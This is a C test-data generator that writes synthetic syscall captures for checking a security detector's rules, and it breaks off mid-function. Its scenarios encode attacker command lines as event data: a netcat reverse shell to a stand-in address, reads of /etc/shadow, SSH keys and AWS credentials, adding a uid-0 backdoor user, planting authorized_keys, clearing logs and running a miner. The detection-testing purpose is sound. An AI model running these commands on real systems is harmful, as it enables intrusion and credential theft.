/* mkcap.c — writes the crafted captures of the default-ruleset tests (e2e_mkcap OUTDIR): for every
 * rule of rules/falcod_rules.yaml, at least one scenario that must trigger it and one benign
 * look-alike that must not, as small .scap files (runtime/scapw.h) replayed with
 * `falcod --replay`. Replay reaches what a live test cannot do safely or at all on a test
 * machine: real containers with metadata (privileged, mounts, images), terminals and login
 * sessions, kernel modules, other users, public network peers.
 *
 * Every scenario seeds a small process tree (process list entries), optionally a container
 * (cgroup path + a container JSON event), then the exit events of the behaviour, in the current
 * layouts (the probe's: one exit event per syscall carrying the enter parameters). Thread ids
 * start above any pid_max, so a replay never confuses them with threads of the host.
 *
 * OUTDIR/manifest.tsv gets one line per capture: NAME <TAB> "trigger" (the replay must raise
 * exactly RULE) or "benign" (it must raise nothing) <TAB> RULE <TAB> extra falcod arguments
 * ('|'-separated, "-" for none). The expectation lives
 * here, next to the scenario, so the two cannot drift apart. */
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "capture.h"
#include "events.h"
#include "evt.h"
#include "ptypes.h"
#include "scapw.h"
#define EVV_PROG "e2e_mkcap"
#include "../tools/evview.h"

/* ------------------------------------------------------------------ scap constants (PPM values) */

enum {
	O_R = 0x1, O_W = 0x2, O_RW = 0x3, O_CR = 0x4, O_AP = 0x8, O_TR = 0x100, /* file_flags */
	AT_CWD = -100,
	EXF_UPPER = 0x2, EXF_MEMFD = 0x4,              /* execve_flags */
	CL_NEWNS = 0x20, CL_NEWNET = 0x10, CL_NEWUSER = 0x100000, /* clone_flags */
	PT_TRACEME = 1, PT_ATTACH = 11, PT_PEEKDATA = 3, /* ptrace_requests */
	FAM_INET = 2, FAM_PACKET = 17,                 /* socket_families */
	BPF_MAPC = 0, BPF_PROGL = 5,                   /* bpf_commands */
	M_SUID = 0x800,                                /* chmod_mode */
	AT_RMDIR = 0x200,
};

/* Capabilities (bit numbers of the kernel's capability sets). */
#define CAP(n) (1ull << (n))
#define CAP_DAC_OVERRIDE 1
#define CAP_SYS_ADMIN 21
#define CAPS_ROOT (CAP(CAP_DAC_OVERRIDE) | CAP(CAP_SYS_ADMIN) | 0x1ffffffffffull)
#define CAPS_DOCKER 0xa80425fbull /* docker's default set: no CAP_SYS_ADMIN */

#define TID0 5000000 /* above pid_max (at most 4194304) */
#define CID "3f4e1d2c5b6a79880123456789abcdef0123456789abcdef0123456789abcdef"
#define CID_SHORT "3f4e1d2c5b6a"

/* ------------------------------------------------------------------ output */

static const char *g_dir;
static FILE *g_manifest;
static struct fc_scapw *g_w;
static uint64_t g_ts;

static uint64_t tick(void)
{
	return g_ts += 1000000; /* 1 ms between events */
}

/* ------------------------------------------------------------------ one event, by parameter name */

/* The builder is tests/tools/evview.h; the timestamp is taken when the event is written. */
static struct evview E;

static void ev(uint16_t type, int64_t tid)
{
	evv_begin(&E, type, 0, tid);
}

static void p_raw(const char *name, const void *p, size_t n)
{
	evv_raw(&E, name, p, n);
}

static void p_int(const char *name, int64_t v)
{
	evv_int(&E, name, v);
}

static void p_str(const char *name, const char *s)
{
	evv_str(&E, name, s);
}

/* A '|'-separated list (args, env, cgroups) as scap's NUL-separated bytes. */
static void p_list(const char *name, const char *spec)
{
	evv_list(&E, name, spec, '|');
}

static void ip4(uint8_t *d, const char *dotted)
{
	unsigned a, b, c, e;
	if (sscanf(dotted, "%u.%u.%u.%u", &a, &b, &c, &e) != 4)
		die("bad address %s", dotted);
	d[0] = (uint8_t)a, d[1] = (uint8_t)b, d[2] = (uint8_t)c, d[3] = (uint8_t)e;
}

/* PT_SOCKTUPLE (AF_INET) from dotted addresses: first endpoint, then second. */
static void p_tuple4(const char *name, const char *a, uint16_t ap, const char *b, uint16_t bp)
{
	uint8_t x[4], y[4];
	ip4(x, a);
	ip4(y, b);
	evv_tuple4(&E, name, x, ap, y, bp);
}

static void p_sockaddr4(const char *name, const char *a, uint16_t port)
{
	uint8_t x[4];
	ip4(x, a);
	evv_sockaddr4(&E, name, x, port);
}

/* Stamps the event and writes it (the writer encodes the view in the 26-byte layout). */
static void emit(void)
{
	E.v.ts = tick();
	if (fc_scapw_event(g_w, &E.v, 0) != 0)
		die("writing event %s: %s", fc_events[E.v.type].name, fc_scapw_error(g_w));
}

/* ------------------------------------------------------------------ processes */

struct pr {
	int64_t tid, ptid;
	const char *comm, *exe, *args; /* args: '|'-separated argv[1..] */
	const char *cwd;
	uint32_t uid, tty, loginuid; /* loginuid 0 = unset (UINT32_MAX) */
	bool ctr;                    /* in the test container */
	int64_t vpid;                /* container: pid in its namespace */
	uint64_t caps;               /* effective = permitted; 0 = CAPS_ROOT for uid 0, none else */
	const char *env;             /* '|'-separated; NULL = a plain one */
};

static const char *cgroups_of(const struct pr *p)
{
	return p->ctr ? "cpu=/docker/" CID "|memory=/docker/" CID "|pids=/docker/" CID
		      : "cpu=/|memory=/user.slice/user-0.slice/session-1.scope|pids=/user.slice";
}

static uint64_t caps_of(const struct pr *p)
{
	return p->caps ? p->caps : p->uid == 0 ? CAPS_ROOT : 0;
}

static const char *env_of(const struct pr *p)
{
	return p->env ? p->env : "PATH=/usr/local/bin:/usr/bin:/bin|HOME=/root|LANG=C.UTF-8";
}

/* A process-list entry (the state a capture starts from). */
static void seed(const struct pr *p)
{
	static char args[4096], env[4096], cg[4096];
	struct fc_cap_proc e;
	memset(&e, 0, sizeof e);
	e.version = 9;
	e.has = ~0u & ~(uint32_t)FC_PROC_HAS_PIDNS_TS;
	e.tid = e.pid = (uint64_t)p->tid;
	e.ptid = (uint64_t)p->ptid;
	e.sid = e.vpgid = e.pgid = p->tid;
	e.comm = evv_cs(p->comm, strlen(p->comm));
	e.exe = e.exepath = evv_cs(p->exe, strlen(p->exe));
	e.args = evv_cs(args, evv_nul_list(p->args, '|', args, sizeof args));
	e.cwd = evv_cs(p->cwd ? p->cwd : "/", strlen(p->cwd ? p->cwd : "/"));
	e.fdlimit = 1024;
	e.uid = e.gid = p->uid;
	e.env = evv_cs(env, evv_nul_list(env_of(p), '|', env, sizeof env));
	e.vtid = e.vpid = p->ctr ? p->vpid : p->tid;
	e.cgroups = evv_cs(cg, evv_nul_list(cgroups_of(p), '|', cg, sizeof cg));
	e.root = evv_cs("/", 1);
	e.tty = p->tty;
	e.loginuid = p->loginuid ? p->loginuid : UINT32_MAX;
	e.cap_permitted = e.cap_effective = caps_of(p);
	if (fc_scapw_proc(g_w, &e) != 0)
		die("writing process %s: %s", p->comm, fc_scapw_error(g_w));
}

/* fork of PARENT into CHILD's tid (clone exit, child side), then CHILD's execve exit. */
static void spawn_flags(const struct pr *parent, const struct pr *c, uint32_t exflags, bool at)
{
	ev(FC_PPME_SYSCALL_CLONE_20_X, c->tid);
	p_int("res", 0);
	p_str("exe", parent->exe);
	p_list("args", parent->args);
	p_int("tid", c->tid);
	p_int("pid", c->tid);
	p_int("ptid", parent->tid);
	p_str("cwd", parent->cwd ? parent->cwd : "/");
	p_int("fdlimit", 1024);
	p_str("comm", parent->comm);
	p_list("cgroups", cgroups_of(parent));
	p_int("flags", 0);
	p_int("uid", parent->uid);
	p_int("gid", parent->uid);
	p_int("vtid", c->ctr ? c->vpid : c->tid);
	p_int("vpid", c->ctr ? c->vpid : c->tid);
	emit();

	ev(at ? FC_PPME_SYSCALL_EXECVEAT_X : FC_PPME_SYSCALL_EXECVE_19_X, c->tid);
	p_int("res", 0);
	p_str("exe", c->exe);
	p_list("args", c->args);
	p_int("tid", c->tid);
	p_int("pid", c->tid);
	p_int("ptid", parent->tid);
	p_str("cwd", c->cwd ? c->cwd : "/");
	p_int("fdlimit", 1024);
	p_str("comm", c->comm);
	p_list("cgroups", cgroups_of(c));
	p_list("env", env_of(c));
	p_int("tty", c->tty);
	p_int("vpgid", c->ctr ? c->vpid : c->tid);
	p_int("loginuid", c->loginuid ? c->loginuid : UINT32_MAX);
	p_int("flags", exflags);
	p_int("cap_inheritable", 0);
	p_int("cap_permitted", (int64_t)caps_of(c));
	p_int("cap_effective", (int64_t)caps_of(c));
	p_int("uid", c->uid);
	p_str("trusted_exepath", c->exe);
	p_int("pgid", c->tid);
	p_int("gid", c->uid);
	if (!at)
		p_str("filename", c->exe);
	emit();
}

static void spawn(const struct pr *parent, const struct pr *c)
{
	spawn_flags(parent, c, 0, false);
}

/* ------------------------------------------------------------------ syscalls */

static void sys_open(int64_t tid, int64_t fd, const char *path, uint32_t flags)
{
	ev(FC_PPME_SYSCALL_OPENAT_2_X, tid);
	p_int("fd", fd);
	p_int("dirfd", AT_CWD);
	p_str("name", path);
	p_int("flags", flags);
	p_int("mode", (flags & O_CR) ? 0644 : 0);
	p_int("dev", 0x803);
	p_int("ino", 4242);
	emit();
}

static void sys_write(int64_t tid, int64_t fd, const void *data, size_t n)
{
	ev(FC_PPME_SYSCALL_WRITE_X, tid);
	p_int("res", (int64_t)n);
	p_raw("data", data, n < 80 ? n : 80);
	p_int("fd", fd);
	p_int("size", (int64_t)n);
	emit();
}

static void sys_socket(int64_t tid, int64_t fd, int domain)
{
	ev(FC_PPME_SOCKET_SOCKET_X, tid);
	p_int("fd", fd);
	p_int("domain", domain);
	p_int("type", domain == FAM_PACKET ? 3 : 1);
	p_int("proto", 0);
	p_int("flags", 0);
	emit();
}

/* socket + connect from CIP:CPORT to SIP:SPORT on fd FD. */
static void sys_connect(int64_t tid, int64_t fd, const char *cip, uint16_t cport, const char *sip, uint16_t sport)
{
	sys_socket(tid, fd, FAM_INET);
	ev(FC_PPME_SOCKET_CONNECT_X, tid);
	p_int("res", 0);
	p_tuple4("tuple", cip, cport, sip, sport);
	p_int("fd", fd);
	p_sockaddr4("addr", sip, sport);
	emit();
}

static void sys_accept(int64_t tid, int64_t fd, const char *cip, uint16_t cport, const char *sip, uint16_t sport)
{
	ev(FC_PPME_SOCKET_ACCEPT4_6_X, tid);
	p_int("fd", fd);
	p_tuple4("tuple", cip, cport, sip, sport);
	p_int("queuepct", 0);
	p_int("queuelen", 0);
	p_int("queuemax", 128);
	p_int("flags", 0);
	emit();
}

static void sys_dup2(int64_t tid, int64_t oldfd, int64_t newfd)
{
	ev(FC_PPME_SYSCALL_DUP2_X, tid);
	p_int("res", newfd);
	p_int("oldfd", oldfd);
	p_int("newfd", newfd);
	emit();
}

static void sys_res(uint16_t type, int64_t tid, int64_t res)
{
	ev(type, tid);
	p_int(fc_events[type].params[0].name, res);
}

static void sys_mkdir(int64_t tid, const char *path)
{
	sys_res(FC_PPME_SYSCALL_MKDIRAT_X, tid, 0);
	p_int("dirfd", AT_CWD);
	p_str("path", path);
	p_int("mode", 0755);
	emit();
}

static void sys_unlink(int64_t tid, const char *path, uint32_t flags)
{
	sys_res(FC_PPME_SYSCALL_UNLINKAT_2_X, tid, 0);
	p_int("dirfd", AT_CWD);
	p_str("name", path);
	p_int("flags", flags);
	emit();
}

static void sys_symlink(int64_t tid, const char *target, const char *linkpath)
{
	sys_res(FC_PPME_SYSCALL_SYMLINKAT_X, tid, 0);
	p_str("target", target);
	p_int("linkdirfd", AT_CWD);
	p_str("linkpath", linkpath);
	emit();
}

static void sys_link(int64_t tid, const char *oldpath, const char *newpath)
{
	sys_res(FC_PPME_SYSCALL_LINKAT_2_X, tid, 0);
	p_int("olddir", AT_CWD);
	p_str("oldpath", oldpath);
	p_int("newdir", AT_CWD);
	p_str("newpath", newpath);
	p_int("flags", 0);
	emit();
}

static void sys_chmod(int64_t tid, const char *path, uint32_t mode)
{
	sys_res(FC_PPME_SYSCALL_FCHMODAT_X, tid, 0);
	p_int("dirfd", AT_CWD);
	p_str("filename", path);
	p_int("mode", mode);
	emit();
}

static void sys_ptrace(int64_t tid, int request, int64_t pid)
{
	sys_res(FC_PPME_SYSCALL_PTRACE_X, tid, 0);
	p_int("request", request);
	p_int("pid", pid);
	emit();
}

static void sys_memfd(int64_t tid, int64_t fd, const char *name)
{
	ev(FC_PPME_SYSCALL_MEMFD_CREATE_X, tid);
	p_int("fd", fd);
	p_str("name", name);
	p_int("flags", 1);
	emit();
}

static void sys_setns(int64_t tid, int64_t fd, uint32_t nstype)
{
	sys_res(FC_PPME_SYSCALL_SETNS_X, tid, 0);
	p_int("fd", fd);
	p_int("nstype", nstype);
	emit();
}

static void sys_unshare(int64_t tid, uint32_t flags)
{
	sys_res(FC_PPME_SYSCALL_UNSHARE_X, tid, 0);
	p_int("flags", flags);
	emit();
}

static void sys_init_module(int64_t tid)
{
	static const uint8_t img[16] = {0x7f, 'E', 'L', 'F', 2, 1, 1};
	sys_res(FC_PPME_SYSCALL_INIT_MODULE_X, tid, 0);
	p_raw("img", img, sizeof img);
	p_int("length", 16384);
	p_str("uargs", "");
	emit();
}

static void sys_finit_module(int64_t tid, int64_t fd)
{
	sys_res(FC_PPME_SYSCALL_FINIT_MODULE_X, tid, 0);
	p_int("fd", fd);
	p_str("uargs", "");
	p_int("flags", 0);
	emit();
}

static void sys_bpf(int64_t tid, int64_t fd, int cmd)
{
	ev(FC_PPME_SYSCALL_BPF_2_X, tid);
	p_int("fd", fd);
	p_int("cmd", cmd);
	emit();
}

/* ------------------------------------------------------------------ the machine */

/* systemd(1) ─ sshd ─ bash (root); sshd ─ bash (uid 1000); systemd ─ containerd-shim ─ container. */
static const struct pr INIT = {TID0 + 1, 0, "systemd", "/usr/lib/systemd/systemd", "--system", "/", 0, 0, 0, false, 0, 0, NULL};
static const struct pr SSHD = {TID0 + 2, TID0 + 1, "sshd", "/usr/sbin/sshd", "-D", "/", 0, 0, 0, false, 0, 0, NULL};
static const struct pr BASH = {TID0 + 3, TID0 + 2, "bash", "/usr/bin/bash", "", "/root", 0, 0, 0, false, 0, 0, NULL};
static const struct pr UBASH = {TID0 + 4, TID0 + 2, "bash", "/usr/bin/bash", "", "/home/alice", 1000, 0, 0, false, 0, 0,
				"PATH=/usr/bin:/bin|HOME=/home/alice"};
static const struct pr SHIM = {TID0 + 10, TID0 + 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
			       "-namespace|moby|-id|" CID, "/", 0, 0, 0, false, 0, 0, NULL};
/* The container's entry point (pid 1 inside) and a shell below it. */
static const struct pr CINIT = {TID0 + 11, TID0 + 10, "node", "/usr/local/bin/node", "server.js", "/", 0, 0, 0, true, 1,
				CAPS_DOCKER, NULL};
static const struct pr CSH = {TID0 + 12, TID0 + 11, "sh", "/bin/sh", "", "/", 0, 0, 0, true, 12, CAPS_DOCKER, NULL};

static void host_tree(void)
{
	seed(&INIT);
	seed(&SSHD);
	seed(&BASH);
	seed(&UBASH);
}

/* The container's metadata, as old captures carry it (container JSON event). */
static void ctr_meta(const char *image_repo, bool privileged, const char *mounts_json)
{
	char json[2048];
	snprintf(json, sizeof json,
		 "{\"container\":{\"id\":\"" CID "\",\"name\":\"e2e_ctr\",\"image\":\"%s:latest\","
		 "\"imagerepo\":\"%s\",\"imagetag\":\"latest\",\"privileged\":%s,\"type\":0,"
		 "\"Mounts\":[%s],\"labels\":{}}}",
		 image_repo, image_repo, privileged ? "true" : "false", mounts_json ? mounts_json : "");
	ev(FC_PPME_CONTAINER_JSON_2_E, -1);
	p_str("json", json);
	emit();
}

static void ctr_tree(const char *image_repo, bool privileged, const char *mounts_json)
{
	host_tree();
	seed(&SHIM);
	seed(&CINIT);
	seed(&CSH);
	ctr_meta(image_repo, privileged, mounts_json);
}

static void ctr_tree_plain(void)
{
	ctr_tree("docker.io/library/nginx", false, NULL);
}

/* A child process: tid, parent, comm, exe, args. Everything else like the parent. */
static struct pr child(const struct pr *parent, int n, const char *comm, const char *exe, const char *args)
{
	struct pr c = *parent;
	c.tid = TID0 + 100 + n;
	c.ptid = parent->tid;
	c.comm = comm;
	c.exe = exe;
	c.args = args;
	if (c.ctr)
		c.vpid = 100 + n;
	return c;
}

/* ------------------------------------------------------------------ scenarios */

#define RULE_TERMINAL "Terminal Shell in Container"
#define RULE_UNTRUSTED "Run Shell Untrusted"

/* execution in containers ------------------------------------------------ */

static void terminal_shell(uint32_t tty)
{
	ctr_tree_plain();
	struct pr c = child(&SHIM, 1, "bash", "/bin/bash", "");
	c.ctr = true;
	c.vpid = 30;
	c.caps = CAPS_DOCKER;
	c.tty = tty;
	spawn(&SHIM, &c);
}
static void s_terminal_shell_t(void) { terminal_shell(34816); }
static void s_terminal_shell_b(void) { terminal_shell(0); }

static const struct pr NGINX = {TID0 + 20, TID0 + 1, "nginx", "/usr/sbin/nginx", "-g|daemon off;", "/", 33, 0, 0, false, 0, 0, NULL};

static void s_shell_untrusted_t(void)
{
	host_tree();
	seed(&NGINX);
	struct pr sh = child(&NGINX, 1, "sh", "/bin/sh", "-c|id; uname -a");
	spawn(&NGINX, &sh);
}

/* A web application sending mail through sendmail via sh -c: the documented exception. */
static void s_shell_untrusted_b(void)
{
	host_tree();
	seed(&NGINX);
	struct pr sh = child(&NGINX, 1, "sh", "/bin/sh", "-c|/usr/sbin/sendmail -t -i");
	spawn(&NGINX, &sh);
}

static void s_netcat_t(void)
{
	host_tree();
	struct pr nc = child(&BASH, 1, "nc", "/usr/bin/nc", "-e|/bin/sh|203.0.113.9|4444");
	spawn(&BASH, &nc);
}

static void s_netcat_b(void)
{
	host_tree();
	struct pr nc = child(&BASH, 1, "nc", "/usr/bin/nc", "-z|-v|203.0.113.9|80");
	spawn(&BASH, &nc);
}

static void s_redirect_t(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "bash", "/usr/bin/bash", "-i");
	spawn(&BASH, &p);
	sys_connect(p.tid, 3, "192.168.1.20", 41000, "203.0.113.9", 8080);
	sys_dup2(p.tid, 3, 0);
}

static void s_redirect_b(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "bash", "/usr/bin/bash", "-i");
	spawn(&BASH, &p);
	sys_open(p.tid, 3, "/var/tmp/input.txt", O_R);
	sys_dup2(p.tid, 3, 0);
}

static void s_tmp_exec_t(void)
{
	host_tree();
	struct pr x = child(&BASH, 1, "payload", "/tmp/.cache/payload", "--daemon");
	spawn(&BASH, &x);
}

static void s_tmp_exec_b(void)
{
	host_tree();
	struct pr go = child(&BASH, 1, "go", "/usr/local/go/bin/go", "run|main.go");
	spawn(&BASH, &go);
	struct pr x = child(&go, 2, "main", "/tmp/go-build2718281/b001/exe/main", "");
	spawn(&go, &x);
}

static void drop_exec(uint32_t flags)
{
	ctr_tree_plain();
	struct pr x = child(&CSH, 1, "kworker", "/usr/local/bin/kworker", "");
	spawn_flags(&CSH, &x, flags, false);
}
static void s_drop_exec_t(void) { drop_exec(EXF_UPPER); }
static void s_drop_exec_b(void) { drop_exec(0); }

static void s_memfd_exec_t(void)
{
	host_tree();
	struct pr x = child(&BASH, 1, "memfd:x", "memfd:x", "");
	spawn_flags(&BASH, &x, EXF_MEMFD, true);
}

/* A script interpreter holding a TCP connection creates a memfd (download-to-memory loader). */
static void s_memfd_net_t(void)
{
	host_tree();
	struct pr py = child(&BASH, 1, "python3", "/usr/bin/python3", "-c|import socket,os");
	spawn(&BASH, &py);
	sys_connect(py.tid, 3, "192.168.1.20", 41001, "203.0.113.9", 443);
	sys_memfd(py.tid, 4, "x");
}

static void s_memfd_b(void)
{
	host_tree();
	struct pr py = child(&BASH, 1, "python3", "/usr/bin/python3", "-c|import os");
	spawn(&BASH, &py);
	sys_memfd(py.tid, 4, "jit-cache");
}

static const uint8_t ELF_HEAD[24] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0};

static void payload(const char *comm, const char *exe, const void *data, size_t n)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, "-s|-o|/tmp/update");
	spawn(&BASH, &p);
	sys_open(p.tid, 3, "/tmp/update", O_W | O_CR | O_TR);
	sys_write(p.tid, 3, data, n);
}
static void s_payload_t(void) { payload("curl", "/usr/bin/curl", ELF_HEAD, sizeof ELF_HEAD); }
static void s_payload_b(void) { payload("curl", "/usr/bin/curl", "{\"version\": 2}\n", 15); }
/* The assembler writing an object file to /tmp (gcc without -pipe): a build, not a payload. */
static void s_payload_as_b(void) { payload("as", "/usr/bin/x86_64-linux-gnu-as", ELF_HEAD, sizeof ELF_HEAD); }

/* credential access ------------------------------------------------------- */

static void opener(const char *comm, const char *exe, const char *args, const char *path, uint32_t flags)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, args);
	spawn(&BASH, &p);
	sys_open(p.tid, 3, path, flags);
}

static void s_shadow_t(void) { opener("cat", "/usr/bin/cat", "/etc/shadow", "/etc/shadow", O_R); }
static void s_shadow_b(void) { opener("sudo", "/usr/bin/sudo", "-l", "/etc/shadow", O_R); }

/* sshd, a long-running auth daemon, reads /etc/shadow from its old master process. */
static void s_shadow_old_sshd_t(void)
{
	host_tree();
	sys_open(SSHD.tid, 5, "/etc/shadow", O_R);
}

static void searcher(const char *comm, const char *exe, const char *args)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, args);
	spawn(&BASH, &p);
}

static void s_search_keys_t(void) { searcher("grep", "/usr/bin/grep", "-rl|BEGIN RSA PRIVATE|/home"); }
static void s_search_keys_b(void) { searcher("grep", "/usr/bin/grep", "-rl|BEGIN CERTIFICATE|/etc/ssl"); }
static void s_aws_t(void) { searcher("cat", "/usr/bin/cat", "/root/.aws/credentials"); }
static void s_aws_b(void) { searcher("cat", "/usr/bin/cat", "/root/.aws/config"); }

static void s_ssh_read_t(void) { opener("python3", "/usr/bin/python3", "steal.py", "/root/.ssh/id_ed25519", O_R); }
static void s_ssh_read_b(void) { opener("ssh", "/usr/bin/ssh", "git@example.com", "/root/.ssh/id_ed25519", O_R); }

static void packet_socket(const char *comm, const char *exe)
{
	ctr_tree_plain();
	struct pr p = child(&CSH, 1, comm, exe, "");
	spawn(&CSH, &p);
	sys_socket(p.tid, 3, FAM_PACKET);
}
static void s_packet_t(void) { packet_socket("python3", "/usr/bin/python3"); }
static void s_packet_b(void) { packet_socket("dhclient", "/sbin/dhclient"); }

/* file system tampering ---------------------------------------------------- */

static void s_etc_t(void) { opener("tee", "/usr/bin/tee", "-a|/etc/cron.d/update", "/etc/cron.d/update", O_W | O_CR | O_AP); }
static void s_etc_b(void) { opener("ldconfig", "/sbin/ldconfig", "", "/etc/ld.so.cache~", O_W | O_CR | O_TR); }
static void s_bindir_t(void) { opener("cp", "/usr/bin/cp", "/tmp/x|/usr/bin/ls", "/usr/bin/ls", O_W | O_CR | O_TR); }
static void s_bindir_b(void) { opener("cp", "/usr/bin/cp", "/tmp/x|/usr/share/doc/x", "/usr/share/doc/x", O_W | O_CR | O_TR); }
static void s_root_t(void) { opener("tee", "/usr/bin/tee", "/root/.ssh/authorized_keys", "/root/.ssh/authorized_keys", O_W | O_CR | O_AP); }
static void s_root_b(void) { opener("bash", "/usr/bin/bash", "", "/root/.bash_history", O_W | O_CR | O_AP); }
/* perf record caching build ids below /root/.debug. */
static void s_root_perf_b(void) { opener("perf", "/usr/bin/perf", "record|-o|perf.data|./a.out", "/root/.debug/.build-id/89/b3de60/probes", O_W | O_CR | O_TR); }
static void s_pkgdb_t(void) { opener("sed", "/usr/bin/sed", "-i|/var/lib/dpkg/status", "/var/lib/dpkg/status", O_W | O_CR | O_TR); }
static void s_pkgdb_b(void) { opener("dpkg", "/usr/bin/dpkg", "-i|x.deb", "/var/lib/dpkg/status", O_W | O_CR | O_TR); }

static void mkdirer(const char *path)
{
	host_tree();
	struct pr p = child(&BASH, 1, "mkdir", "/usr/bin/mkdir", path);
	spawn(&BASH, &p);
	sys_mkdir(p.tid, path);
}
static void s_sensdir_t(void) { mkdirer("/usr/local/bin/tools"); }
static void s_sensdir_b(void) { mkdirer("/usr/local/share/tools"); }

static void s_sensdir_rm_t(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "rm", "/usr/bin/rm", "-f|/etc/shadow-");
	spawn(&BASH, &p);
	sys_unlink(p.tid, "/etc/shadow-", 0);
}

static void shellcfg(const char *path, uint32_t flags)
{
	host_tree();
	struct pr p = child(&UBASH, 1, "tee", "/usr/bin/tee", "-a|/home/alice/.bashrc");
	spawn(&UBASH, &p);
	sys_open(p.tid, 3, path, flags);
}
static void s_shellcfg_t(void) { shellcfg("/home/alice/.bashrc", O_W | O_AP); }
static void s_shellcfg_b(void) { shellcfg("/home/alice/.bashrc", O_R); }

static void s_clearlog_t(void) { opener("bash", "/usr/bin/bash", "", "/var/log/auth.log", O_W | O_TR); }
/* A build or test harness truncating its own log in a work tree. */
static void s_clearlog_build_b(void) { opener("bash", "/usr/bin/bash", "", "/work/proj/build/console.log", O_W | O_CR | O_TR); }
static void s_clearlog_b(void) { opener("logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf", "/var/log/auth.log", O_W | O_TR); }

static void histrm(const char *path)
{
	host_tree();
	struct pr p = child(&BASH, 1, "rm", "/usr/bin/rm", path);
	spawn(&BASH, &p);
	sys_unlink(p.tid, path, 0);
}
static void s_history_t(void) { histrm("/root/.bash_history"); }
static void s_history_b(void) { histrm("/root/.bash_logout"); }
static void s_history_trunc_t(void) { opener("bash", "/usr/bin/bash", "", "/home/alice/.zsh_history", O_W | O_TR); }

static void symlinker(const char *target)
{
	host_tree();
	struct pr p = child(&BASH, 1, "ln", "/usr/bin/ln", "-s");
	spawn(&BASH, &p);
	sys_symlink(p.tid, target, "/var/tmp/s");
}
static void s_symlink_t(void) { symlinker("/etc/shadow"); }
static void s_symlink_b(void) { symlinker("/etc/hostname"); }

static void linker(const char *oldpath)
{
	host_tree();
	struct pr p = child(&BASH, 1, "ln", "/usr/bin/ln", "");
	spawn(&BASH, &p);
	sys_link(p.tid, oldpath, "/var/tmp/h");
}
static void s_hardlink_t(void) { linker("/etc/shadow"); }
static void s_hardlink_b(void) { linker("/etc/hostname"); }

static void s_hidden_t(void) { mkdirer("/tmp/.ICE-unlx"); }
static void s_hidden_b(void) { mkdirer("/tmp/.ICE-unix"); }

static void s_hidden_file_t(void) { opener("curl", "/usr/bin/curl", "-o|/dev/shm/.x", "/dev/shm/.x", O_W | O_CR | O_TR); }

static void chmoder(uint32_t mode)
{
	host_tree();
	struct pr p = child(&BASH, 1, "chmod", "/usr/bin/chmod", "");
	spawn(&BASH, &p);
	sys_chmod(p.tid, "/var/tmp/bash", mode);
}
static void s_setuid_t(void) { chmoder(M_SUID | 0755); }
static void s_setuid_b(void) { chmoder(0755); }

/* network ------------------------------------------------------------------- */

static void connector(const struct pr *parent, const char *comm, const char *exe, const char *args, const char *ip,
		      uint16_t port)
{
	struct pr p = child(parent, 1, comm, exe, args);
	spawn(parent, &p);
	sys_connect(p.tid, 3, p.ctr ? "172.17.0.2" : "192.168.1.20", 40000, ip, port);
}
static void s_c2_t(void) { host_tree(); connector(&BASH, "python3", "/usr/bin/python3", "c.py", "203.0.113.9", 4444); }
static void s_c2_b(void) { host_tree(); connector(&BASH, "python3", "/usr/bin/python3", "c.py", "10.20.30.40", 4444); }
/* From a container with its own network namespace: its address is no host interface. */
static void s_c2_ctr_t(void) { ctr_tree_plain(); connector(&CSH, "python3", "/usr/bin/python3", "c.py", "198.51.100.4", 31337); }
static void s_sshport_t(void) { host_tree(); connector(&BASH, "ssh", "/usr/bin/ssh", "-p|443|u@203.0.113.9", "203.0.113.9", 443); }
static void s_sshport_b(void) { host_tree(); connector(&BASH, "ssh", "/usr/bin/ssh", "u@203.0.113.9", "203.0.113.9", 22); }
static void s_miner_t(void) { host_tree(); connector(&BASH, "kthreadd2", "/usr/bin/kthreadd2", "", "203.0.113.9", 3333); }
static void s_miner_b(void) { host_tree(); connector(&BASH, "node", "/usr/bin/node", "server.js", "203.0.113.9", 3000); }
static void s_miner_exec_t(void) { searcher("xmrig", "/opt/xmrig/xmrig", "-o|pool.example:443|--donate-level|1"); }

static void inbound(const char *cip)
{
	ctr_tree_plain();
	sys_accept(CINIT.tid, 7, cip, 50123, "172.17.0.2", 80);
}
static void s_inbound_t(void) { inbound("203.0.113.9"); }
static void s_inbound_b(void) { inbound("10.1.2.3"); }

static void nettool_ctr(const char *comm, const char *exe)
{
	ctr_tree_plain();
	struct pr p = child(&CSH, 1, comm, exe, "-sS|10.0.0.0/24");
	spawn(&CSH, &p);
}
static void s_nettool_ctr_t(void) { nettool_ctr("nmap", "/usr/bin/nmap"); }
static void s_nettool_ctr_b(void) { nettool_ctr("curl", "/usr/bin/curl"); }

static void nettool_user(const struct pr *parent)
{
	host_tree();
	struct pr p = child(parent, 1, "nmap", "/usr/bin/nmap", "-sT|10.0.0.0/24");
	spawn(parent, &p);
}
static void s_nettool_user_t(void) { nettool_user(&UBASH); }
static void s_nettool_user_b(void) { nettool_user(&BASH); }

/* accounts and privilege escalation ------------------------------------------ */

static void sysuser(uint32_t tty)
{
	host_tree();
	struct pr sh = {TID0 + 30, SSHD.tid, "bash", "/usr/bin/bash", "", "/", 65534, tty, 65534, false, 0, 0, NULL};
	seed(&sh);
	struct pr p = child(&sh, 1, "id", "/usr/bin/id", "");
	spawn(&sh, &p);
}
static void s_sysuser_t(void) { sysuser(34817); }
static void s_sysuser_b(void) { sysuser(0); }

static void s_usermgmt_t(void) { searcher("useradd", "/usr/sbin/useradd", "-m|-o|-u|0|backdoor"); }

static void s_usermgmt_b(void)
{
	host_tree();
	/* a user changing their own password at a terminal */
	struct pr sh = UBASH;
	sh.tid = TID0 + 30;
	sh.tty = 34817;
	seed(&sh);
	struct pr p = child(&sh, 1, "passwd", "/usr/bin/passwd", "");
	spawn(&sh, &p);
}

static void s_usermgmt_pkg_b(void)
{
	host_tree();
	struct pr dpkg = child(&BASH, 1, "dpkg", "/usr/bin/dpkg", "--configure|-a");
	spawn(&BASH, &dpkg);
